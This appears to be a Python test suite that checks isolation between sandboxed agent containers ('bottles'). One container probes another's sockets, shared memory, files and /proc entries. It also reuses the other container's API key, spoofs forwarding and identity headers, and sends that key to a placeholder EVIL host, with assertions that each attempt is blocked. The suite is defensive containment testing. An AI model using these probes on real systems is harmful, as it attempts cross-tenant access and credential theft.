"""Attack cases on other bottles (threats.md §2, 121–123, 125; I17): two of one operator neither see nor reach each other."""

from __future__ import annotations

import pytest

from tests.attack.operators import Bottle, Operator
from tests.attack.probes import KERNEL, NETWORK, SHOW, judged
from tests.attack.world import API

# What the neighbour offers, to whoever could get there: sockets of every kind, shared memory, files, a process to signal.
OFFER = (
    KERNEL
    + r"""
import subprocess, time
server = r'''
import ctypes, os, signal, socket
libc = ctypes.CDLL(None)
def listen(family, address, kind=1):
    s = socket.socket(family, kind)
    s.bind(address)
    if kind == 1:
        s.listen()
    return s
try:
    six = listen(10, ("::1", 7777))
except OSError:
    pass  # this bottle has no IPv6 at all
keep = [listen(2, ("0.0.0.0", 7777)), listen(2, ("198.18.0.77", 7778)),
        listen(2, ("0.0.0.0", 7777), 2), listen(1, "\0neighbour"), listen(1, "/tmp/neighbour.sock")]
for place in ("/dev/shm", "/tmp", "/var/tmp", "/run", "/home/agent", "/workspace"):
    try:
        open(place + "/neighbours-file", "w").write("neighbours-canary")
    except OSError:
        pass
libc.shmget(0x4e42, 4096, 0o1666)
libc.semget(0x4e42, 1, 0o1666)
libc.msgget(0x4e42, 0o1666)
open("/tmp/ready", "w").close()
signal.pause()
'''
subprocess.Popen([sys.executable, "-I", "-c", server], start_new_session=True, stdin=subprocess.DEVNULL)
while not os.path.exists("/tmp/ready"):
    time.sleep(0.01)
print(1)
"""
)


@pytest.mark.threat(121)
def test_case_121_a_neighbours_sockets_files_and_memory_are_out_of_reach(operator: Operator, bottle: Bottle) -> None:
    with operator.start() as neighbour:
        neighbour.python(OFFER)
        source = KERNEL + """
found = {f"{a} {p}": dial(2, (a, p)) for a in ("127.0.0.1", "198.18.0.1", "198.18.0.2", "198.18.0.77") for p in (7777, 7778)}
found |= {"ipv6": dial(10, ("::1", 7777)), "abstract": dial(1, "\\0neighbour"), "path": dial(1, "/tmp/neighbour.sock")}
found |= {name: "ok" if getattr(libc, name)(0x4e42, *rest) >= 0 else "no" for name, rest in
          {"shmget": (0, 0), "semget": (0, 0), "msgget": (0,)}.items()}
tops = ("/dev/shm", "/tmp", "/var/tmp", "/run", "/home", "/workspace")
files = [base for top in tops for base, _, names in os.walk(top) if "neighbours-file" in names]
def line(pid):
    try:
        return open(f"/proc/{pid}/cmdline").read()
    except (FileNotFoundError, ProcessLookupError):
        return ""  # it has ended meanwhile
lines = [line(p) for p in os.listdir("/proc") if p.isdigit()]
print(json.dumps([found, files, [line for line in lines if "neighbour" + "s-file" in line]]))
"""
        found, files, processes = bottle.python(source)
        assert set(found.values()) <= {"ECONNREFUSED", "EADDRNOTAVAIL", "ENOENT", "no"}, found
        assert (files, processes) == ([], [])


@pytest.mark.threat(122, 123)
def test_case_122_a_neighbours_placeholder_and_name_are_worth_nothing(operator: Operator, bottle: Bottle) -> None:
    """Who one is, is which listener one came by: no header, no user name and no other bottle's placeholder changes it."""
    with operator.start() as neighbour:
        theirs = neighbour.python("import json, os; print(json.dumps(os.environ['API_KEY']))")
        source = f"""{NETWORK}
THEIRS, NAME = {theirs!r}, {neighbour.identity!r}
attempt("key", lambda: tls(request("/v1/x", key=THEIRS)))
claims = ["X-Bottle: " + NAME, "X-Forwarded-For: 127.0.0.1", "X-Real-IP: 127.0.0.1", "Via: 1.1 " + NAME]
attempt("claims", lambda: tls(request("/admin", headers=claims, key=KEY)))
user = base64.b64encode((NAME + ":" + THEIRS).encode()).decode()
attempt("proxy user", lambda: raw(request(f"http://{{EVIL}}/", EVIL, headers=["Proxy-Authorization: Basic " + user])))
{SHOW}"""
        found = judged(bottle.python(source))
        assert found == {
            "key": ["403 credential_foreign"], "claims": ["403 path_not_granted"], "proxy user": ["403 host_not_granted"],
        }  # fmt: skip
        assert [one for one in bottle.world.servers.arrived() if one.name == API and one.data] == []


@pytest.mark.threat(125)
def test_case_125_to_end_one_bottle_again_and_again_leaves_the_others_alone(operator: Operator, bottle: Bottle) -> None:
    source = f"""{NETWORK}
open("/tmp/stays", "a").write("s")
open("/home/agent/stays", "a").write("s")
attempt("names", lambda: lookup(API))
attempt("gate", lambda: raw(request("/policy", "bottle.internal"), ("127.0.0.1", 80)).split(" ")[1])
seen["files"] = [open(place + "/stays").read() for place in ("/tmp", "/home/agent")]
{SHOW}"""
    before = bottle.python(source)
    gone = operator.start("closed")
    operator.do("stop", gone.identity)
    assert operator.run("stop", gone.identity).returncode == 1
    for _ in range(2):
        operator.run("cleanup", gone.identity, "--yes")
    assert operator.run("cleanup", bottle.identity, "--yes").returncode == 1
    after = bottle.python(source)
    assert after == before | {"files": ["ss", "ss"]}
    assert after["gate"] == "200" and after["names"].startswith("198.18.")
    assert operator.listing()[bottle.identity]["status"] == "running"
